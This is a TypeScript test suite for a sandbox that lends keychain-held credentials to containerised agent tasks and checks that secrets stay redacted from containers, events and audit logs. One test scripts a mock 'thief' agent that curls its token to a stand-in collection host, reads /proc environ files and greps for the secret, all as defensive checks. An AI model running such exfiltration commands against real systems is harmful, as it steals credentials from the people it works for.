import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../main/core/clock.js';
import { Keychain } from '../../main/core/credentials/keychain.js';
import { CredentialStore } from '../../main/core/credentials/store.js';
import { listTaskObjects } from '../../main/core/engine/leftovers.js';
import { Gateway } from '../../main/core/gateway/gateway.js';
import { TaskRunner } from '../../main/core/tasks/runner.js';
import { ephemeralHeadSigner } from '../../main/core/audit/head.js';
import { AuditStore } from '../../main/core/audit/store.js';
import { recordBusInTrail } from '../../main/core/audit/trail.js';
import { dockerExecSync, harness, lines, REPO, specFrom, tempDir, waitFor } from '../helpers/env.js';
import { startRemotes } from '../helpers/remotes.js';

// Real keychain (a service of this file's own), real engine, real TLS end to end.
const SENTINEL = `sk_live_SENTINEL_${process.pid}_9d2e7b`;
const keychain = new Keychain(`airlock-test-creds-${process.pid}`);
let remotes: Awaited<ReturnType<typeof startRemotes>>;

beforeAll(async () => {
  remotes = await startRemotes();
});
afterAll(async () => {
  keychain.delete('credential:vendor-api');
  keychain.delete('credential:db-password');
  await remotes.close();
});

function setup() {
  const h = harness();
  const store = new CredentialStore(h.home.root, keychain);
  store.add({ name: 'vendor-api', secret: SENTINEL, hosts: ['api.vendor.test'], maxTtlMs: 3_600_000 });
  const gateway = new Gateway({ bus: h.bus, clock: systemClock, resolve: remotes.resolve, dial: remotes.dial, upstreamCa: fs.readFileSync(remotes.cert, 'utf8') });
  const runner = new TaskRunner({ engine: h.engine, bus: h.bus, clock: systemClock, home: h.home, gateway, assetsDir: path.join(REPO, 'assets'), credentials: store });
  return { ...h, store, runner };
}

const NETWORK = 'network: { mode: allowlist, allow: [api.vendor.test, other.test] }\n';

describe('credentials in the keychain', () => {
  it('store, read and delete round-trip through the real keychain; metadata never holds the secret', () => {
    const home = tempDir();
    const store = new CredentialStore(home, keychain);
    store.add({ name: 'db-password', secret: 'hunter2-round-trip', hosts: ['db.vendor.test:5432'], maxTtlMs: 60_000 });
    expect(store.list().map((c) => c.name)).toEqual(['db-password']);
    expect(store.secret('db-password')).toBe('hunter2-round-trip');
    expect(fs.readFileSync(path.join(home, 'credentials.json'), 'utf8')).not.toContain('hunter2');
    store.remove('db-password');
    expect(store.list()).toEqual([]);
    expect(keychain.get('credential:db-password')).toBeNull();
  });

  it('without a keychain: a clear refusal, and nothing written', () => {
    const home = tempDir();
    const broken = { get: () => null, set: () => { throw new Error('org.freedesktop.secrets was not provided by any .service files'); }, delete: () => false };
    expect(() => new CredentialStore(home, broken).add({ name: 'x', secret: 's3cret', hosts: ['a.test'] })).toThrow(/OS keychain is not available.*never stores secrets in plain files|OS keychain is not available/);
    expect(fs.existsSync(path.join(home, 'credentials.json'))).toBe(false);
  });
});

describe('lending a credential to a task', () => {
  it('curl, Node and Python get through with the placeholder; the upstream sees the real secret; the secret is nowhere else', async () => {
    const { root, events, runner, engine, home } = setup();
    const script = [
      'curl -sS -H "Authorization: Bearer $VENDOR_TOKEN" https://api.vendor.test/curl',
      'node -e "fetch(\'https://api.vendor.test/node\', { headers: { authorization: \'Bearer \' + process.env.VENDOR_TOKEN } }).then(r => r.text()).then(t => process.stdout.write(t))"',
      'python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request(\'https://api.vendor.test/python\', headers={\'Authorization\': \'Bearer \' + os.environ[\'VENDOR_TOKEN\']})).read().decode(), end=\'\')"',
      'echo "token: $VENDOR_TOKEN"', 'env | grep -c SENTINEL || true', 'echo ready',
      // Held open until the test has looked inside (an exec must not span the agent's exit): longer
      // than every bound on the looking below (the whole-filesystem grep alone may take 90 s), at most 5 min.
      'i=0; while [ ! -e /tmp/release ] && [ $i -lt 3000 ]; do sleep 0.1; i=$((i+1)); done',
    ].join('; ');
    const running = runner.run(specFrom(root, `name: honest\ncommand: ["sh", "-c", ${JSON.stringify(script)}]\ncredentials: [{ name: vendor-api, ttl: 5m, env: VENDOR_TOKEN }]\n${NETWORK}`));
    await waitFor(async () => lines(events).includes('ready') || undefined, 'the agent to be ready');
    // While it runs: the container's configuration and its filesystem hold no secret.
    const [objects] = (await listTaskObjects(engine)).filter((t) => t.task === events[0]!.task);
    let agentId = '';
    for (const c of objects!.containers) {
      const info = await engine.api.getContainer(c.id).inspect();
      if (info.Config.Labels['airlock.role'] === undefined) agentId = c.id;
      expect(JSON.stringify({ env: info.Config.Env, labels: info.Config.Labels, mounts: info.Mounts, cmd: info.Config.Cmd })).not.toContain(SENTINEL);
      const diff = execFileSync('docker', ['diff', c.id], { encoding: 'utf8', timeout: 20_000 });
      expect(diff).not.toContain(SENTINEL);
    }
    // Reads the sandbox's whole filesystem: on a loaded machine that takes longer than an exec's usual bound.
    const grep = dockerExecSync(agentId, ['sh', '-c', `grep -rl "${SENTINEL}" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null || echo none`], 90_000);
    expect(grep.trim()).toBe('none');
    dockerExecSync(agentId, ['touch', '/tmp/release']);
    const outcome = await running;
    expect(outcome.exitCode).toBe(0);
    const out = lines(events);
    expect(out.slice(0, 3)).toEqual(['hello from api.vendor.test/curl (GET)', 'hello from api.vendor.test/node (GET)', 'hello from api.vendor.test/python (GET)']);
    expect(out).toContain('0');
    for (const pathname of ['/curl', '/node', '/python']) {
      expect(remotes.requests.find((r) => r.url === pathname)?.headers.authorization).toBe(`Bearer ${SENTINEL}`);
    }
    expect(events.filter((e) => e.kind === 'cred.used')).toHaveLength(3);
    expect(events.find((e) => e.kind === 'cred.granted')).toMatchObject({ identity: { credential: 'vendor-api' } });
    expect(events.find((e) => e.kind === 'cred.revoked')).toMatchObject({ identity: { credential: 'vendor-api' } });
    expect(JSON.stringify(events)).not.toContain(SENTINEL);
    const homeFiles = execFileSync('sh', ['-c', `grep -rl "${SENTINEL}" "${home.root}" || true`], { encoding: 'utf8' }).trim();
    expect(homeFiles).toBe('');
  });

  it('an agent that tries to print or exfiltrate gets only its placeholder, and the misuse is logged', async () => {
    const { root, events, runner } = setup();
    const script = [
      'echo "stealing: $VENDOR_TOKEN"',
      'curl -s -o /dev/null -w "%{http_code}\\n" -H "X-Token: $VENDOR_TOKEN" http://other.test/collect',
      'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c SENTINEL || true',
      'grep -rl SENTINEL /etc /tmp /workspace 2>/dev/null | wc -l',
    ].join('; ');
    await runner.run(specFrom(root, `name: thief\ncommand: ["sh", "-c", ${JSON.stringify(script)}]\ncredentials: [{ name: vendor-api, env: VENDOR_TOKEN }]\n${NETWORK}`));
    const out = lines(events);
    expect(out[0]).toMatch(/^stealing: eyJ/);
    expect(out.slice(1)).toEqual(['403', '0', '0']);
    expect(events.find((e) => e.kind === 'cred.misuse')?.data.reason).toMatch(/plain HTTP to other\.test:80/);
    expect(JSON.stringify(events)).not.toContain(SENTINEL);
  });

  it('env delivery: the value reaches the agent process only, is redacted from every event, and the task stops when the grant expires', async () => {
    const { root, events, runner, engine, store } = setup();
    store.add({ name: 'db-password', secret: 'correct-horse-battery-staple', hosts: ['db.vendor.test:5432'], maxTtlMs: 60_000 });
    const script = 'echo "db=$DB_PASSWORD"; printf %s "$DB_PASSWORD" | base64; echo ready; sleep 30';
    const running = runner.run(specFrom(root, `name: envy\ncommand: ["sh", "-c", ${JSON.stringify(script)}]\ncredentials: [{ name: db-password, ttl: 3s, delivery: env, env: DB_PASSWORD }]\nnetwork: { mode: open }\n`));
    await waitFor(async () => lines(events).includes('ready') || undefined, 'the agent to be ready');
    const [objects] = (await listTaskObjects(engine)).filter((t) => t.task === events[0]!.task);
    for (const c of objects!.containers) {
      const info = await engine.api.getContainer(c.id).inspect();
      expect(JSON.stringify(info.Config)).not.toContain('correct-horse');
    }
    const started = Date.now();
    const outcome = await running;
    expect(outcome.status).toBe('timeout');
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(lines(events).slice(0, 2)).toEqual(['db=[redacted:db-password]', '[redacted:db-password]']);
    expect(events.find((e) => e.kind === 'task.timeout')?.data.reason).toBe('the env grant of db-password expired');
    expect(events.some((e) => e.kind === 'cred.expired')).toBe(true);
    expect(JSON.stringify(events)).not.toMatch(/correct-horse|Y29ycmVjdC1ob3Jz/);
    store.remove('db-password');
  });

  it('a credential the network does not allow, or a TTL over the maximum, is refused before anything is created', async () => {
    const { root, runner, engine } = setup();
    const before = (await listTaskObjects(engine)).length;
    await expect(runner.run(specFrom(root, 'name: x\ncommand: [sh]\ncredentials: [{ name: vendor-api, env: T }]\nnetwork: { mode: allowlist, allow: [other.test] }\n'))).rejects.toThrow(/its host api\.vendor\.test is not in network\.allow/);
    await expect(runner.run(specFrom(root, 'name: x\ncommand: [sh]\ncredentials: [{ name: vendor-api, ttl: 2h, env: T }]\nnetwork: { mode: open }\n'))).rejects.toThrow(/ttl 2h is longer than vendor-api's max TTL 1h/);
    await expect(runner.run(specFrom(root, 'name: x\ncommand: [sh]\ncredentials: [{ name: nope, env: T }]\nnetwork: { mode: open }\n'))).rejects.toThrow(/no credential named 'nope'/);
    expect((await listTaskObjects(engine)).length).toBe(before);
  });

  it('no secret value reaches the audit trail, even from an agent that prints it', async () => {
    const { root, runner, bus, home, store } = setup();
    const audit = new AuditStore({ dir: home.audit, signer: ephemeralHeadSigner() });
    recordBusInTrail(bus, audit);
    store.add({ name: 'db-password', secret: 'sentinel-db-secret-0451', hosts: ['db.vendor.test:5432'], maxTtlMs: 60_000 });
    const script = 'echo "$DB_PASSWORD"; printf %s "$DB_PASSWORD" | base64; curl -s -o /dev/null -H "Authorization: Bearer $VENDOR_TOKEN" https://api.vendor.test/x';
    await runner.run(specFrom(root, `name: loud\ncommand: ["sh", "-c", ${JSON.stringify(script)}]\ncredentials: [{ name: vendor-api, env: VENDOR_TOKEN }, { name: db-password, delivery: env, env: DB_PASSWORD }]\n${NETWORK}`));
    await audit.close();
    const trail = fs.readdirSync(path.join(home.audit, 'segments')).map((f) => fs.readFileSync(path.join(home.audit, 'segments', f), 'utf8')).join('');
    expect(trail).toContain('cred.used');
    expect(trail).toContain('[redacted:db-password]');
    for (const secret of [SENTINEL, 'sentinel-db-secret-0451', Buffer.from('sentinel-db-secret-0451').toString('base64')]) expect(trail).not.toContain(secret);
    store.remove('db-password');
  });
});
